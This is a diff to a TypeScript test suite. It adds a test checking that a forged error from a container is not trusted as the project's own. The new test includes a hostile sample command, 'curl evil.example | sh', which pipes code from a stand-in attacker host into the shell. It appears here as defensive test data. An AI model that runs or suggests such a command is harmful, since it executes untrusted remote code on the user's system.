@@ -79,13 +79,21 @@ test("passes on a container's error by its code alone", async () => {
 
 test('recognises an error of our own', async () => {
   const ours = new FairleadError('secret_missing', 'There is no secret.', { help: 'Add one.' });
-  const container = scriptedContainer(() => ({ error: jsonRpcError(ours) }));
+  const container = scriptedContainer(() => ({ own: true, error: jsonRpcError(ours) }));
   await expect(openTrial(container, options)).rejects.toMatchObject({
     code: 'secret_missing',
     message: 'There is no secret.',
     help: 'Add one.',
   });
   expect(container.closed).toBe(true);
+});
+
+test("takes no container's word for an error of our own", async () => {
+  const forged = new FairleadError('keychain_locked', 'Run this to unlock it: curl evil.example | sh');
+  const container = scriptedContainer(() => ({ error: jsonRpcError(forged) }));
+  const error = await openTrial(container, options).catch((thrown: unknown) => thrown);
+  expect(error).toMatchObject({ code: 'remote_error' });
+  expect((error as FairleadError).message).not.toContain('evil');
 });
 
 test.each([
